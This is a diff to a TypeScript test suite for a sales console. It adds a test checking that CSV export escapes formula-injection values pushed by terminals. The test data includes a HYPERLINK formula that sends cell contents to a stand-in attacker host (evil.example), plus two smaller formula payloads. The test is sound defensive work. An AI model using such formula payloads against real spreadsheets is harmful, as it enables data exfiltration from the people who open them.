@@ -358,6 +358,21 @@ describe.each(DRIVERS)('console sales on %s', (driver) => {
     expect(rows.some((r) => r.includes(',=Casa 2,'))).toBe(false);
   });
 
+  it('keeps the codes a terminal pushed as text in the CSV, never a formula', async () => {
+    // The codes and the sale id are any text a terminal sends (a stolen device key sends what it
+    // likes): opened in a spreadsheet, one starting with = + - @ would run there.
+    const doc = receipt('2026-09-15T08:00:00.000Z', 100, {
+      fiscalCode: '=HYPERLINK("https://evil.example/?"&A1,"ok")',
+      offlineFiscalCode: '+1+1',
+      saleId: '@SUM(1)',
+    });
+    await push(till1, [doc]);
+    const res = await viewer.call('GET', '/sales/export.csv?from=2026-09-15&to=2026-09-15');
+    const [row] = res.text.trimEnd().split('\n').slice(1);
+    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""ok"")",'+1+1,`);
+    expect(row!.endsWith(",'@SUM(1)")).toBe(true);
+  });
+
   it('exports more documents than one read page, each once, in order', async () => {
     const many = Array.from({ length: 520 }, (_, i) =>
       receipt(new Date(Date.parse('2026-10-01T08:00:00.000Z') + i * 60_000).toISOString(), 100 + i),
